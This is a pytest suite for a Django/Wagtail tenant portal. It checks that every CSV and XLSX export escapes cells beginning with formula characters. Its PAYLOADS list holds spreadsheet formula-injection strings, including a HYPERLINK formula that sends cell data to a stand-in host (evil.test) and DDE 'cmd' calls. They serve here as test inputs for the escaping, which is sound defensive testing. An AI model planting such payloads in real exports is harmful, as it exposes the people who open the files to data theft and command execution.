"""Every CSV and XLSX the project serves is formula-safe: a cell a tenant or
a staff member typed that starts with "=", "+", "-", "@", a tab or a carriage
return reaches the spreadsheet as text, never as a formula. Wagtail's
`list_export` downloads (every snippet listing) and Wagtail's reports
included, and the project's own exports through the one function in
portal.spreadsheets."""

import csv
import io
import zipfile
from datetime import date, timedelta

import pytest
from django.urls import NoReverseMatch, reverse
from django.utils import timezone
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook
from wagtail.snippets.models import get_snippet_models

from portal.spreadsheets import FORMULA_START, escape_formula
from tenants.services.recordings import recording_attach, recording_hold
from tenants.services.storage import storage_deposit
from tests.base import logged_in, make_request, make_user
from tests.tenants.test_call_recordings import wav_upload
from tests.visits.helpers import past_visit

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.test/?d="&A1,"详情")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START) and not _plain_number(value)


def csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(body: bytes) -> list:
    """Every cell of every sheet; a cell stored as a formula is returned as
    the marker "FORMULA:" + its text, so that the assertion names it."""
    wb = load_workbook(io.BytesIO(body))
    cells = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                cells.append(f"FORMULA:{c.value}" if c.data_type == "f" else c.value)
    return cells


def assert_safe(cells, *, expected=()):
    bad = [c for c in cells if _dangerous(c) or (isinstance(c, str) and c.startswith("FORMULA:"))]
    assert not bad, bad
    for payload in expected:
        assert "'" + payload in cells, (payload, cells)


def _body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


# --- the function -------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_be_a_formula_gets_an_apostrophe(payload):
    assert escape_formula(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-1", "+3", "12.5", "-0.5", 7, -1, None, date(2026, 1, 31), "蜀香火锅", "a=b", ""])
def test_numbers_dates_and_ordinary_text_are_left_alone(value):
    assert escape_formula(value) == value


def test_a_lazy_translation_is_escaped_as_text():
    assert escape_formula(gettext_lazy("=x")) == "'=x"


# --- Wagtail's listing exports ------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_wagtail_listing_exports_of_tenants_and_requests_are_formula_safe(world, payload):
    world.tenant_a.trading_name = payload
    world.tenant_a.save()
    make_request(world, subject=payload, description=payload, contact_name=payload)
    staff = logged_in(world.ops_a)
    for url_name in ("wagtailsnippets_tenants_tenant:list", "wagtailsnippets_tenants_servicerequest:list"):
        url = reverse(url_name)
        csv_body = csv_cells(_body(staff.get(url, {"export": "csv"})))
        assert_safe(csv_body, expected=[payload])
        xlsx_body = xlsx_cells(_body(staff.get(url, {"export": "xlsx"})))
        assert_safe(xlsx_body, expected=[payload])


def _listing_exports():
    """(model, url) for every snippet listing that offers a download."""
    found = []
    for model in get_snippet_models():
        viewset = model.snippet_viewset
        if not isinstance(viewset.list_export, (list, tuple)) or not viewset.list_export:
            continue  # no download offered (Wagtail's UNDEFINED or [])
        try:
            found.append((model, reverse(viewset.get_url_name("list"))))
        except NoReverseMatch:
            continue
    return found


def test_every_snippet_listing_export_is_formula_safe(world):
    from tests.notices.delivery import stamped_letter

    payload = PAYLOADS[0]
    world.tenant_a.trading_name = payload
    world.tenant_a.save()
    contact = world.tenant_a.contacts.first()
    contact.name = PAYLOADS[3]
    contact.save()
    make_request(world, subject=PAYLOADS[1])
    stamped_letter(world, title=PAYLOADS[2])
    exports = _listing_exports()
    labels = {m._meta.label for m, _url in exports}
    # The listings named in the issue, so that this test cannot pass by finding none.
    assert {"tenants.Tenant", "tenants.ServiceRequest", "tenants.Contact", "notices.Letter"} <= labels
    # Each listing as the centre's staff member whose work it is (the seal-use
    # register is the seal keeper's), the superuser for the rest.
    people = [logged_in(u) for u in (world.ops_a, world.seal_a, world.drafter_a, world.leader_a)]
    people.append(logged_in(make_user("root@atrium.test", is_superuser=True, is_staff=True)))
    for model, url in exports:
        for fmt, read in (("csv", csv_cells), ("xlsx", xlsx_cells)):
            response = next((r for r in (c.get(url, {"export": fmt}) for c in people) if r.status_code == 200), None)
            assert response is not None, f"nobody could download {url}?export={fmt}"
            cells = read(_body(response))
            assert_safe(cells)
            assert len(cells) >= len(model.snippet_viewset.list_export), model._meta.label  # a header at least
    admin = people[-1]
    tenants = csv_cells(_body(admin.get(reverse("wagtailsnippets_tenants_tenant:list"), {"export": "csv"})))
    assert "'" + payload in tenants
    letters = xlsx_cells(_body(admin.get(reverse("wagtailsnippets_notices_letter:list"), {"export": "xlsx"})))
    assert "'" + PAYLOADS[2] in letters


def test_wagtails_own_report_exports_are_formula_safe(world):
    """Site history names each object by its title: a tenant's too."""
    from wagtail.models import ModelLogEntry

    world.tenant_a.trading_name = PAYLOADS[0]
    world.tenant_a.save()
    ModelLogEntry.objects.log_action(world.tenant_a, "wagtail.edit", user=world.ops_a)
    admin = logged_in(make_user("root@atrium.test", is_superuser=True, is_staff=True))
    for fmt, read in (("csv", csv_cells), ("xlsx", xlsx_cells)):
        cells = read(_body(admin.get(reverse("wagtailadmin_reports:site_history"), {"export": fmt})))
        assert_safe(cells)
        # The label is the tenant's name with its code in brackets after it.
        assert any(isinstance(c, str) and c.startswith("'" + PAYLOADS[0]) for c in cells), cells


# --- the project's own exports ------------------------------------------------------


def test_the_archive_exports_and_import_templates_are_formula_safe(world):
    contact = world.tenant_a.contacts.first()
    contact.position = PAYLOADS[1]
    contact.save()
    world.tenant_a.legal_name = PAYLOADS[3]
    world.tenant_a.save()
    staff = logged_in(world.ops_a)
    for resource in ("tenants", "units", "contacts"):
        assert_safe(csv_cells(_body(staff.get(reverse("tenants_archive:export", args=[resource, "csv"])))))
        assert_safe(xlsx_cells(_body(staff.get(reverse("tenants_archive:export", args=[resource, "xlsx"])))))
        assert_safe(xlsx_cells(_body(staff.get(reverse("tenants_archive:import_template", args=[resource])))))
    contacts = csv_cells(_body(staff.get(reverse("tenants_archive:export", args=["contacts", "csv"]))))
    assert "'" + PAYLOADS[1] in contacts
    tenants = xlsx_cells(_body(staff.get(reverse("tenants_archive:export", args=["tenants", "xlsx"]))))
    assert "'" + PAYLOADS[3] in tenants


def test_the_request_record_form_is_formula_safe(world):
    make_request(world, subject=PAYLOADS[0], contact_name=PAYLOADS[2])
    today = timezone.localdate()
    response = logged_in(world.ops_a).get(reverse("wagtailsnippets_tenants_servicerequest:record_form"), {
        "centre": world.centre_a.pk, "start": str(today - timedelta(days=7)), "end": str(today), "format": "xlsx"})
    assert_safe(xlsx_cells(_body(response)), expected=[PAYLOADS[2]])


def test_the_storage_log_is_formula_safe(world):
    storage_deposit(actor=world.ops_a, tenant=world.tenant_a, items=PAYLOADS[4], quantity=1, location=PAYLOADS[5],
                    depositor_name=PAYLOADS[1], deposited_at=timezone.now())
    response = logged_in(world.ops_a).get(reverse("wagtailsnippets_tenants_storagedeposit:register") + "?format=xlsx")
    assert_safe(xlsx_cells(_body(response)), expected=[PAYLOADS[1]])


def test_the_recording_archive_log_is_formula_safe(world):
    rec = recording_attach(actor=world.ops_a, service_request=make_request(world), upload=wav_upload(),
                           recorded_at=timezone.now())
    recording_hold(actor=world.ops_a, recording=rec, reason=PAYLOADS[3],
                   keep_until=timezone.localdate() + timedelta(days=90))
    response = logged_in(world.ops_a).get(reverse("tenants_recordings:log") + "?format=xlsx")
    assert_safe(xlsx_cells(_body(response)), expected=[PAYLOADS[3]])


def test_the_letter_deliveries_xlsx_is_formula_safe(world):
    from tests.notices.delivery import stamped_letter

    world.tenant_a2.trading_name = PAYLOADS[2]
    world.tenant_a2.save()
    letter = stamped_letter(world, title=PAYLOADS[0])
    response = logged_in(world.ops_a).get(reverse("notices_letters:deliveries_xlsx", args=[letter.pk]))
    assert_safe(xlsx_cells(_body(response)), expected=[PAYLOADS[0], PAYLOADS[2]])


def test_the_visits_dashboard_xlsx_and_auditor_pack_are_formula_safe(world):
    from visits.exports.jobs import auditor_pack

    world.tenant_a.trading_name = PAYLOADS[0]
    world.tenant_a.save()
    record = past_visit(world.tenant_a, world.ops_a, timezone.localdate() - timedelta(days=1))
    record.topics = PAYLOADS[1]
    record.people_met = PAYLOADS[3]
    record.save()
    response = logged_in(world.ops_a).get(reverse("visits_dashboard:xlsx"))
    assert_safe(xlsx_cells(_body(response)))
    today = timezone.localdate()
    pack = auditor_pack(centres=[world.centre_a], start=today - timedelta(days=30), end=today)
    with zipfile.ZipFile(io.BytesIO(pack)) as z:
        names = [n for n in z.namelist() if n.endswith(".csv")]
        assert "visit_records.csv" in names
        for name in names:
            cells = csv_cells(z.read(name))
            assert_safe(cells)
        assert {"'" + PAYLOADS[1], "'" + PAYLOADS[3], "'" + PAYLOADS[0]} <= set(csv_cells(z.read("visit_records.csv")))


def test_the_escaping_is_installed_once_for_every_wagtail_export():
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    from portal.spreadsheets import install_wagtail_export_escaping

    install_wagtail_export_escaping()  # a second call must not wrap twice
    view = SpreadsheetExportMixin()
    assert view.preprocess_field_value("f", "=1+1", "csv") == "'=1+1"
    assert view.preprocess_field_value("f", "-1", "xlsx") == "-1"
